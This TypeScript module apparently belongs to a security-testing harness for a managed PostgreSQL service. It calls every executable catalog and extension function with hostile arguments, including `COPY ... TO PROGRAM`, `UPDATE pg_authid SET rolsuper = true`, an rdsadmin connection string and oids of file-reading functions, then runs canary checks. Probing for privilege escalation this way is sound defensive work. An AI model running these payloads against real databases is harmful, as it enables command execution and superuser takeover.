import type { Target } from './target.ts';

interface Routine {
  readonly name: string;
  readonly kind: string;
  readonly types: readonly string[];
}

/** Texts that do harm where a function takes them for a file, a program, SQL, a setting or a connection. */
function hostileTexts({ canaries }: Target): string[] {
  return [
    canaries.secret,
    `COPY (SELECT 1) TO PROGRAM '${canaries.program}'`,
    `UPDATE pg_authid SET rolsuper = true WHERE rolname = 'postgres'`,
    'dbname=rdsadmin user=rdsadmin',
    'pg_authid',
    'rdsadmin',
  ];
}

/** Numbers with a meaning for a function: rdsadmin, catalogs, functions that read files, guarded roles. */
const hostileNumbers = [
  '10',
  '1260',
  '1262',
  '4571',
  `'pg_read_file(text)'::regprocedure::oid`,
  `'rdsadmin'::regrole::oid`,
];

function isText(type: string) {
  return /^(text|name|cstring|character varying|character|bpchar|"char")$/.test(type);
}

function literal(type: string, target: Target, round: number): string {
  if (type === 'internal') return 'NULL';
  if (/^any|^record$|^trigger$|^event_trigger$|handler$/.test(type)) return `'x'::text`;
  const texts = hostileTexts(target);
  const quoted = `'${texts[round % texts.length]?.replaceAll("'", "''")}'`;
  if (isText(type)) return `${quoted}::${type}`;
  if (type === 'oid') return hostileNumbers[round % hostileNumbers.length] ?? '10';
  if (/^reg/.test(type)) return `${hostileNumbers[round % hostileNumbers.length]}::${type}`;
  if (/^(smallint|integer|bigint|numeric|real|double precision|xid|cid|xid8)$/.test(type)) {
    return `'${round}'::${type}`;
  }
  if (type === 'boolean') return 'true';
  if (type === 'bytea') return `convert_to(${quoted}, 'UTF8')`;
  if (/\[\]$/.test(type)) return isText(type.slice(0, -2)) ? `ARRAY[${quoted}]::${type}` : `'{}'::${type}`;
  return `NULL::${type}`;
}

// These functions end or block the session that calls them, which is their purpose.
const LEFT_OUT = /^(pg_sleep|pg_sleep_for|pg_sleep_until|pg_terminate_backend|pg_advisory_.*lock.*)$/;

function quoteName(name: string) {
  return `"${name.replaceAll('"', '""')}"`;
}

/**
 * The functions of the catalogs and extensions that the master user may call, with argument types that SQL
 * can write.
 */
async function listRoutines(target: Target, schemas: string): Promise<Routine[]> {
  const rows = await target.rows(
    `SELECT nspname AS schema, proname AS name, prokind AS kind,
       array_to_json(ARRAY(SELECT format_type(t, NULL) FROM unnest(proargtypes) AS t)) AS types
     FROM pg_proc AS p JOIN pg_namespace AS n ON n.oid = pronamespace
     WHERE ${schemas} AND prokind IN ('f', 'p') AND has_function_privilege(p.oid, 'EXECUTE')
     ORDER BY p.oid`,
  );
  return rows
    .filter(({ name = '' }) => !LEFT_OUT.test(name))
    .map(({ schema = '', name = '', kind = '', types }) => ({
      name: `${quoteName(schema)}.${quoteName(name)}`,
      kind,
      types: types as unknown as string[],
    }));
}

const BETWEEN_CHECKS = 100;

/** Calls all of these functions with the arguments that could do the most harm. */
export async function attackFunctions(target: Target, schemas: string): Promise<number> {
  const routines = await listRoutines(target, schemas);
  for (const [index, { name, kind, types }] of routines.entries()) {
    const rounds = types.some(isText) ? hostileTexts(target).length : types.length > 0 ? 2 : 1;
    for (let round = 0; round < rounds; round++) {
      const list = types.map((type) => literal(type, target, round)).join(', ');
      await target.query(kind === 'p' ? `CALL ${name}(${list})` : `SELECT ${name}(${list})`);
    }
    if (index % BETWEEN_CHECKS === BETWEEN_CHECKS - 1) await target.check(`functions up to ${name}`);
  }
  await target.check(`functions in ${schemas}`);
  return routines.length;
}
